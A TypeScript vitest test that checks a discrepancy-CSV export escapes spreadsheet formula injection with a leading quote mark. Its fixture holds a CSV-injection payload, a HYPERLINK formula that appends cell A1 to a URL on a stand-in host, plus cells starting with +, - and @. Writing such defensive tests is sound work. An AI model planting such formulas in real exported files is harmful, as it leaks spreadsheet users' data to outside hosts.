import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { jsonlHeader, officialBlock, verifyExportText } from '@engine';
import { discrepanciesCsv } from './verify';

describe('verify --out: the discrepancy CSV', () => {
  it('writes cells copied from the checked file that a spreadsheet would take for formulas behind a quote mark', () => {
    const spec = officialBlock('les-3-gongs', 50, 42);
    const evil = '=HYPERLINK("http://example.invalid/?"&A1,"ouvrir")';
    const line = JSON.stringify({
      index: 0,
      ref: evil,
      prize_cents: 0,
      gongs: ['+1', '-1', '@SUM(A1)'],
      bonus_cents: null,
    });
    const r = verifyExportText(`${jsonlHeader(spec)}\n${line}\n`, { regenerate: false });
    const rows = Papa.parse<string[]>(discrepanciesCsv(r), { skipEmptyLines: true }).data;
    const cells = rows.slice(1).flat();
    expect(cells.some((c) => c.includes('HYPERLINK'))).toBe(true);
    // no cell starts as a formula would: =, +, -, @, tab or carriage return
    for (const c of cells) expect(c, c).not.toMatch(/^[=+\-@\t\r]/);
    expect(cells).toContain(`'${evil}`);
  });
});
